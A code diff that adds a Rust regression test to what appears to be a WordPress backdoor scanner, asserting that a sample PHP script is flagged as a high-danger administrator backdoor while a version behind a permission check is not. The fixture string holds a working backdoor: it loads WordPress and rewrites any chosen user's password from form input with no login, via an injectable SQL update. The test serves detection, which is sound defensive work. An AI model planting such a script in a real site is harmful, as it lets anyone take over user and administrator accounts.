@@ -219,6 +219,19 @@ fn an_administrators_row_inserted_when_a_request_asks_is_a_backdoor() {
 }
 
 #[test]
+fn any_users_password_rewritten_for_whoever_asks_is_a_backdoor() {
+    // Regression: fresh131's `wp-user-password-reset.php` loads WordPress, lists the users and
+    // sets the chosen one's password from the form, with no login.
+    let reset = "<?php require \"wp-load.php\"; global $wpdb; $users = $wpdb->get_results(\"SELECT * FROM $wpdb->users\");\n\
+                 if ($_POST) { $pass = md5($_POST['password']); $user = esc_sql($_POST['user']);\n\
+                 $x = $wpdb->query(\"UPDATE $wpdb->users SET user_pass = '$pass' WHERE user_login = '$user' \"); }";
+    assert_eq!(found(reset), [(Why::AdminBackdoor, Danger::High)]);
+    // Behind an administrator's check, it is a tool of the site's.
+    let tool = reset.replace("if ($_POST)", "if ($_POST && current_user_can('edit_users'))");
+    assert!(found(&tool).is_empty(), "{:?}", found(&tool));
+}
+
+#[test]
 fn a_fallback_administrator_kept_out_of_the_users_list_by_a_meta_query_is_hidden() {
     // Regression: fresh119's "Security Measures" plugin makes `hostinger` and leaves users
     // with its mark out of the users' list.
